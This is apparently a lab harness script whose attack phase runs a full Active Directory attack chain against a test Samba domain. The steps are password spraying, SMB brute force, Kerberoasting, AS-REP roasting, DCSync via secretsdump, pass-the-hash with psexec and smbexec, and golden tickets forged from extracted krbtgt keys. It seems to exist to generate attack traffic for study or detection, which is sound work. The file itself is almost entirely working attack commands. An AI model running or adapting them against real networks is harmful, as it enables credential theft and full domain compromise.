# Attack phase, sourced by lab.sh (uses its `step`): real tools from ATK01 (10.232.0.66).
# Inside each script: $PY = /usr/bin/python3, $EX = impacket's example scripts, $NS_DIR = the
# attacker's files (krb5 configs, ccache), $OUT = the lab's output folder.
# shellcheck shell=bash disable=SC2154  # py and admin_pass come from lab.sh
atk_users='alice bob carol dave eve frank grace heidi ivan judy svc_web svc_sql'

step dns_axfr attack atk anonymous dig \
  "dig @10.232.0.10 corp.lab AXFR"
step spray_kerberos attack atk 'many (spray)' kinit \
  "for u in $atk_users; do echo 'Winter2024!' | kinit \$u@CORP.LAB >/dev/null 2>&1 && echo SPRAY_HIT \$u || echo fail \$u; done; kdestroy -q 2>/dev/null; true"
step brute_ntlm_smb attack atk bob smbclient \
  "for p in password Password1 Welcome1 Spring2024 Summer2024 Autumn2024 Winter2024 Qwerty123 Letmein1 Bob2024 'Bob#Pass2024'; do
     smbclient -L //10.232.0.10 -U \"CORP/bob%\$p\" -d0 >/dev/null 2>&1 && echo BRUTE_HIT \$p || echo fail \$p; done"
step ldap_recon attack atk eve ldapsearch \
  "ldapsearch -x -H ldap://10.232.0.10 -D eve@corp.lab -w 'Eve#Pass2024' -b DC=corp,DC=lab '(|(servicePrincipalName=*)(userAccountControl:1.2.840.113556.1.4.803:=4194304)(adminCount=1))' sAMAccountName servicePrincipalName userAccountControl"
step samr_enum attack atk eve samrdump.py \
  "\$PY \$EX/samrdump.py 'corp.lab/eve:Eve#Pass2024@10.232.0.10'"
step samr_lookupsid attack atk eve lookupsid.py \
  "\$PY \$EX/lookupsid.py 'corp.lab/eve:Eve#Pass2024@10.232.0.10' 1200"
# Kerberoasting with MIT tools (impacket 0.10's GetUserSPNs needs client-side fixes against Samba):
# find the user accounts with an SPN over LDAP, then ask for an RC4 service ticket to each SPN.
step kerberoast attack atk eve 'ldapsearch+kvno' \
  "export KRB5_CONFIG=\$NS_DIR/krb5-rc4.conf && echo 'Eve#Pass2024' | kinit eve@CORP.LAB >/dev/null &&
   spns=\$(ldapsearch -LLL -x -H ldap://10.232.0.10 -D eve@corp.lab -w 'Eve#Pass2024' -b DC=corp,DC=lab '(&(servicePrincipalName=*)(objectCategory=user)(!(sAMAccountName=krbtgt)))' servicePrincipalName | sed -n 's/^servicePrincipalName: //p') &&
   echo \"\$spns\" && for s in \$spns; do kvno \"\$s\"; done; klist -e; kdestroy -q"
step asrep_roast attack atk anonymous GetNPUsers.py \
  "printf '%s\n' $atk_users nosuchuser >\$NS_DIR/users.txt && \$PY \$EX/GetNPUsers.py -no-pass -usersfile \$NS_DIR/users.txt -format hashcat -dc-ip 10.232.0.10 corp.lab/"
step add_to_domain_admins attack atk Administrator samba-tool \
  "samba-tool group addmembers 'Domain Admins' eve -H ldap://dc1.corp.lab -U \"CORP/Administrator%\$ADMIN_PASS\""
# Stock impacket 0.10: Samba refuses its DsGetNCChanges (prefix table without schemaInfo), so no
# secret comes back, but the replication requests from a non-DC are on the wire all the same.
step dcsync attack atk eve secretsdump.py \
  "\$PY \$EX/secretsdump.py -just-dc 'corp.lab/eve:Eve#Pass2024@10.232.0.10'"
# The NT hash of the Administrator password, computed here (what a dump would have yielded).
admin_nt=$("$py" -c 'import sys; from Cryptodome.Hash import MD4; print(MD4.new(sys.argv[1].encode("utf-16-le")).hexdigest())' "$admin_pass")
step pth_smbclient attack atk Administrator smbclient \
  "smbclient -L //10.232.0.10 -U CORP/Administrator%$admin_nt --pw-nt-hash -d0"
step pth_psexec attack atk Administrator psexec.py \
  "\$PY \$EX/psexec.py -hashes :$admin_nt corp.lab/Administrator@10.232.0.10 whoami"
# smbexec creates a service per command (cmd.exe echoing into a batch file); Samba refuses it too.
step pth_smbexec attack atk Administrator smbexec.py \
  "\$PY \$EX/smbexec.py -hashes :$admin_nt corp.lab/Administrator@10.232.0.10 </dev/null"
# Golden ticket. The krbtgt keys are read on the DC's own files with samba-tool (no traffic), as an
# attacker holding a DC backup (or a DCSync Samba accepted) would have them. The domain SID comes from the
# lookupsid step's own output. impacket 0.10 needs two client-side fixes against Samba 4.17
# (impacket_compat.py); the realm is given in upper case, as Heimdal requires.
mkdir -p "$lab/loot"
rm -f "$lab/loot/krbtgt.keytab"
samba-tool domain exportkeytab "$lab/loot/krbtgt.keytab" --principal=krbtgt -s "$conf" >"$lab/loot/exportkeytab.log" 2>&1
krbtgt_aes=$(klist -k -K -e "$lab/loot/krbtgt.keytab" | sed -n 's/.*(aes256-cts-hmac-sha1-96)  *(0x\([0-9a-f]*\)).*/\1/p' | tail -n 1)
krbtgt_nt=$(samba-tool user getpassword krbtgt --attributes=unicodePwd -H "$dc/private/sam.ldb" -s "$conf" 2>/dev/null |
  sed -n 's/^unicodePwd:: //p' | base64 -d | od -An -tx1 | tr -d ' \n')
domain_sid=$(sed -n 's/.*Domain SID is: \(S-1-5-21-[0-9-]*\).*/\1/p' "$out/steps/samr_lookupsid.out")
if [ -z "$krbtgt_aes" ] || [ -z "$krbtgt_nt" ] || [ -z "$domain_sid" ]; then
  die "golden ticket: no krbtgt keys ($lab/loot/exportkeytab.log) or no domain SID in steps/samr_lookupsid.out"
fi
compat=$here/impacket_compat.py
forge() { # ticket name, key option, key, user, rid: ticketer writes NAME.ccache in the attacker's folder
  printf '%s' "cd \$NS_DIR && rm -f $4.ccache && \$PY $compat \$EX/ticketer.py $2 $3 -domain-sid $domain_sid -user-id $5 -domain CORP.LAB $4 >/dev/null && mv $4.ccache $1.ccache"
}
smb_k() { # ticket name, user: impacket's smbclient over Kerberos with that ccache (it makes the TGS-REQ)
  printf '%s' "printf 'shares\nexit\n' | KRB5CCNAME=\$NS_DIR/$1.ccache \$PY $compat \$EX/smbclient.py -k -no-pass -dc-ip 10.232.0.10 CORP.LAB/$2@dc1.corp.lab"
}
step golden_ticket attack atk Administrator 'ticketer.py+smbclient.py -k' \
  "$(forge golden -aesKey "$krbtgt_aes" Administrator 500) && $(smb_k golden Administrator)"
# Samba keeps no RC4 key for krbtgt: KRB_AP_ERR_BADKEYVER, but the RC4 TGT is on the wire.
step golden_ticket_rc4 attack atk Administrator 'ticketer.py -nthash' \
  "$(forge golden-rc4 -nthash "$krbtgt_nt" Administrator 500) && $(smb_k golden-rc4 Administrator)"
# A name that never existed: Samba decrypts the TGT, looks the client up and answers C_PRINCIPAL_UNKNOWN.
step golden_ticket_ghost attack atk ghost 'ticketer.py (no such user)' \
  "$(forge golden-ghost -aesKey "$krbtgt_aes" ghost 1999) && $(smb_k golden-ghost ghost)"
